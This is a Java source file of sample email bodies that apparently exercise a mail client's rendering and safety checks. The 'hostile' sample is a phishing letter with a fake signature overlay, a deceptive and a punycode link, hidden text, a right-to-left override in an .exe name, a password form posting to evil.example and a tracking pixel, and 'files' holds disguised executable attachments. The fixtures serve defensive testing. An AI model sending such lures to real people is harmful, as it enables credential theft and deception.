package org.waxwing.ui.sample;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;
import javafx.scene.input.MouseButton;
import javafx.scene.input.MouseEvent;
import org.waxwing.app.mailbox.Letters.LetterId;
import org.waxwing.crypto.Opener;
import org.waxwing.crypto.mime.AttachedFile;
import org.waxwing.crypto.mime.MimeParser;
import org.waxwing.crypto.mime.MimeParsing;
import org.waxwing.crypto.mime.Octets;
import org.waxwing.crypto.page.ContentReader;
import org.waxwing.crypto.page.LetterContent;
import org.waxwing.ui.reading.BodyPages;
import org.waxwing.ui.reading.ReadingState;
import org.waxwing.ui.shield.Verdict;

/// Letters whose bodies need more than lines of text.
public final class SampleBodies {
    private static final LetterId ID = new LetterId(1);

    private SampleBodies() {}

    /// Headings, lists, a table, a quote, code, colours and a picture that came with it.
    public static ReadingState.Shown newsletter() {
        return letter(
                """
                Subject: Reading group in June
                MIME-Version: 1.0
                Content-Type: multipart/related; boundary=r

                --r
                Content-Type: text/html; charset=utf-8

                <html><body style="font-family:Arial;color:#333"><h1>Reading group in June</h1>
                <p>Dear Maya, here is the <b>plan</b> for the <i>next</i> weeks. The room is
                <span style="color:#0000cc">blue</span>, the tea is <font color="#22aa44">green</font>,
                and <mark>Friday is off</mark>.</p>
                <p><img src="cid:wave@chem.example" alt="A wave"></p>
                <h2>What we read</h2>
                <ol><li>“On seals and letters”, chapters 1 to 3<li>Two short papers:<ul><li>the one by Ito<li>the one by Mensah</ul></ol>
                <h3>Dates</h3>
                <table border=1><tr><th>When<th>Where<th>Who begins<tr><td>9 June, 16:00<td>Small seminar room<td>Anna
                <tr><td>16 June, 16:00<td>Library, second floor<td>Ben, because Carla is away that week</table>
                <p>Bring your copy, or take it from <a href="https://chem.example/reading">our page</a>:</p>
                <pre>curl -O https://chem.example/reading.tar
                tar xf reading.tar</pre>
                <blockquote>Shall we start at four?<blockquote>Half past would be better.</blockquote></blockquote>
                <hr><p>Four it is.<br>Anna</p></body></html>
                --r
                Content-Type: image/png; name=wave.png
                Content-ID: <wave@chem.example>
                Content-Transfer-Encoding: base64

                %s
                --r--
                """.formatted(SamplePicture.base64()), new Verdict.SealedAndKnown("Anna Weber", SamplePages.SINCE));
    }

    /// What an attacker would try.
    public static ReadingState.Shown hostile() {
        return letter("""
            Subject: Your account
            MIME-Version: 1.0
            Content-Type: text/html; charset=utf-8

            <html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><style>.seal{position:fixed;top:0}</style></head>
            <body>
            <div class="seal" style="position:fixed;top:0;left:0;z-index:9999;background:#fff">Sealed for you, signed by Anna (checked).</div>
            <script>document.title='x'</script>
            <p>Dear customer, your <span style="font-size:1px">not </span>account is closed. Go to
            <a href="https://www.bank.example@evil.example/login">https://www.bank.example/login</a> or to
            <a href="https://xn--80ak6aa92e.com/">this page</a> and sign in.</p>
            <p style="color:#ffffff">The old letter stands here in white on white.</p>
            <div style="display:none">-----BEGIN PGP MESSAGE-----</div>
            <div style="position:absolute;left:-9999px">And here, far away.</div>
            <p>Open photo_\u202Egpj.exe to see the picture.</p>
            <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
            <img src="https://evil.example/track.gif?maya" width=1 height=1><img src="https://evil.example/logo.png" alt="Logo of the bank">
            <iframe src="https://evil.example/"></iframe></body></html>
            """, new Verdict.Postcard());
    }

    /// RFC 3676.
    public static ReadingState.Shown flowed() {
        return letter("""
            Subject: Re: Trip budget
            MIME-Version: 1.0
            Content-Type: text/plain; charset=utf-8; format=flowed

            Dear all,

            this paragraph was broken by the program that\s
            sent it, and is whole again here, as long as\s
            the window is wide.

            > Shall we plan three nights or four? The train\s
            > is cheaper than we feared.
            >> Four would be good if the budget allows it.
            >>> And Ben?

            Ben too: see https://physics.example/trip.

            --\s
            Anna Weber
            """, new Verdict.SealedAndKnown("Anna Weber", SamplePages.SINCE));
    }

    /// Files that are what they say, and files that are not.
    public static ReadingState.Shown files() {
        List<AttachedFile> files = List.of(
                file("budget.ods", "PK\u0003\u0004mimetypeapplication/vnd.oasis.opendocument.spreadsheet"),
                file("wave.png", "\u0089PNG\r\n\u001A\n"),
                file("invoice.pdf.exe", "MZ\u0090\0"),
                file("minutes.pdf", "<!DOCTYPE html><script>"),
                file("anna.asc", "-----BEGIN PGP PUBLIC KEY BLOCK-----"));
        LetterContent content =
                LetterContent.plain("The sheet is in the first file. The others came with it.\n\nAnna", files);
        return shown(content, "Files", new Verdict.SealedAndKnown("Anna Weber", SamplePages.SINCE));
    }

    /// One click with the left button.
    public static MouseEvent click() {
        return new MouseEvent(
                MouseEvent.MOUSE_CLICKED,
                0,
                0,
                0,
                0,
                MouseButton.PRIMARY,
                1,
                false,
                false,
                false,
                false,
                true,
                false,
                false,
                true,
                false,
                true,
                null);
    }

    private static AttachedFile file(String name, String content) {
        return new AttachedFile(
                name,
                "application/octet-stream",
                Octets.of((content + "\0".repeat(40_000)).getBytes(StandardCharsets.ISO_8859_1)));
    }

    private static ReadingState.Shown letter(String message, Verdict verdict) {
        Octets bytes = Octets.ofUtf8(message);
        MimeParsing.Parsed parsed = (MimeParsing.Parsed) MimeParser.parse(bytes);
        return shown(
                ContentReader.read(parsed.root(), true),
                Opener.outerFields(bytes).subject(),
                verdict);
    }

    private static ReadingState.Shown shown(LetterContent content, String subject, Verdict verdict) {
        ReadingState.Shown plain = SamplePages.budget(ID);
        return new ReadingState.Shown(
                ID,
                SamplePages.fields(
                        verdict.wasSealed() ? Sample.ANNA : Sample.mailbox("Your bank", "service@evil.example"),
                        subject,
                        plain.fields().fields().getFirst().protection()),
                content,
                BodyPages.of(content),
                verdict,
                Optional.empty(),
                plain.details());
    }
}
